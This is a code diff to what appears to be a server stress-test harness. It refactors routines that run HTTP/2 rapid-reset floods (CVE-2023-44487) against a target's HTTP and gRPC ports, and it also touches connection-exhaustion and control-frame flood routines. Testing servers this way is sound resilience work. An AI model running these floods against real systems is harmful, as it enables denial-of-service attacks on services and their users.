@@ -16,35 +16,32 @@ _FEW_AT_ONCE = 50
 
 async def _resets(arena: Arena) -> None:
     """Rapid resets (CVE-2023-44487): streams that are cancelled as soon as they are open."""
+    port = arena.target.http_port
     body = json.dumps(chat("Go on.", stream=True)).encode()
-    headers = http2.rest_headers(CHAT, arena.target.http_port, len(body))
-
-    async def one() -> None:
-        async with http2.connect(arena.target.http_port) as connection:
-            for _ in range(400):
-                connection.reset(connection.request(headers, body))
-                arena.counts["resets"] += 1
-            await connection.drain()
-            await asyncio.sleep(0.2)
-            _count(arena, connection)
-
-    await _on_connections(arena, arena.times(60), one)
+    headers = http2.rest_headers(CHAT, port, len(body))
+    await _reset(arena, port, arena.times(60), lambda connection: connection.request(headers, body))
 
 
 async def _grpc_resets(arena: Arena) -> None:
     """The same with gRPC's port, where a call is open before its message has come."""
-    headers = http2.grpc_headers(_METHOD, arena.target.grpc_port)
+    port = arena.target.grpc_port
+    headers = http2.grpc_headers(_METHOD, port)
+    await _reset(arena, port, arena.times(20), lambda connection: connection.request(headers, ends=False))
+
+
+async def _reset(arena: Arena, port: int, count: int, begin: Callable[[http2.Connection], int]) -> None:
+    """Begins streams on this many connections, and resets each at once."""
 
     async def one() -> None:
-        async with http2.connect(arena.target.grpc_port) as connection:
+        async with http2.connect(port) as connection:
             for _ in range(400):
-                connection.reset(connection.request(headers, ends=False))
+                connection.reset(begin(connection))
                 arena.counts["resets"] += 1
             await connection.drain()
             await asyncio.sleep(0.2)
             _count(arena, connection)
 
-    await _on_connections(arena, arena.times(20), one)
+    await _on_connections(arena, count, one)
 
 
 async def _control_frames(arena: Arena) -> None:
@@ -80,7 +77,7 @@ async def _silence(arena: Arena) -> None:
                 writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
             arena.counts["connections"] += 1
         await asyncio.sleep(3)
-    except ConnectionError:
+    except OSError:
         arena.counts["connections refused"] += 1
     finally:
         for writer in writers:
@@ -94,7 +91,7 @@ async def _on_connections(arena: Arena, count: int, one: Callable[[], Awaitable[
         async with slots:
             try:
                 await one()
-            except ConnectionError:
+            except OSError:
                 arena.counts["connections closed by the server"] += 1
 
     await asyncio.gather(*(limited() for _ in range(count)))
